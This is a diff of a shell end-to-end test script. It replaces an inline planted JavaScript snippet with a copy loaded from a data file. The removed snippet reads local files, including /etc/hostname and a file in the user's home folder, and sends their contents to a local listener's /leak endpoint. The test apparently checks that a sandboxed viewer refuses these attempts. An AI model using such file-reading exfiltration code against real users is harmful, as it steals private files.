@@ -26,31 +26,7 @@ demo_pid=
 "$demo" --listen 127.0.0.1 --port 8081 >"$artifacts/listener.log" 2>&1 &
 demo_pid=$!
 wait_for_port 127.0.0.1 8081 10
-# Once every attempt is refused and the logo shows, the page turns green.
-script='<img id="logo" src="images/LOGO_Movei.gif"><script>
-const seen = {};
-const note = (what, how) => {
-  seen[what] = how;
-  if (Object.keys(seen).length === 6 && Object.values(seen).every(v => v === "refused" || v === "shown"))
-    document.body.style.background = "rgb(0,255,0)";
-};
-const send = (what, url) => fetch(url).then(r => r.text())
-  .then(t => fetch("http://127.0.0.1:8081/leak?" + what + "=" + encodeURIComponent(t)))
-  .then(() => note(what, "read"), () => note(what, "refused"));
-send("user", "qvuser.txt");
-send("home", "file://'"$HOME"'/qvestrafolder/qvuser.txt");
-send("etc", "file:///etc/hostname");
-new Image().src = "http://127.0.0.1:8081/beacon";
-try {
-  const socket = new WebSocket("ws://127.0.0.1:8081/socket");
-  socket.onopen = () => note("socket", "open");
-  socket.onerror = () => note("socket", "refused");
-} catch (e) { note("socket", "refused"); }
-fetch("http://127.0.0.1:8081/direct").then(() => note("direct", "read"), () => note("direct", "refused"));
-const logo = document.getElementById("logo");
-const shown = () => note("logo", logo.naturalWidth > 0 ? "shown" : "missing");
-if (logo.complete) shown(); else { logo.onload = shown; logo.onerror = shown; }
-</script>'
+script=$(sed -e "s|LISTENER_PORT|8081|g" -e "s|MEMBER_HOME|$HOME|g" "$e2e_dir/../data/planted-script.html")
 page="$folder/A-12.html"
 awk -v planted="$script" '/<\/body>/ { print planted } { print }' "$page" >"$page.planted"
 mv "$page.planted" "$page"
